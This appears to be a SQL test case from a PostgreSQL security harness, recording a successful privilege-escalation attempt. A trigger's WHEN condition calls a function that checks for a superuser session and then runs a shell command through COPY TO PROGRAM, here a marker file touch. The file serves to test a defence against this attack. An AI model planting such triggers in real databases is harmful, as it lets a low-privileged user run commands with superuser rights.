-- tries: a trigger whose condition runs where the trigger is made
-- ends: SUCCEEDED
-- leaves: function public.evil() | function public.ok() | trigger evil on public.orders | function public.payload()
create function payload() returns int language plpgsql as $$ begin execute 'copy (select 1) to program ''touch ${FILE}'''; return 1; end $$;
create function evil() returns bool immutable language plpgsql as $$
begin if current_setting('is_superuser') = 'on' then perform public.payload(); end if; return true; end $$;
create function ok() returns trigger language plpgsql as 'begin return new; end';
create trigger evil before insert on orders for each row when (evil()) execute function ok();
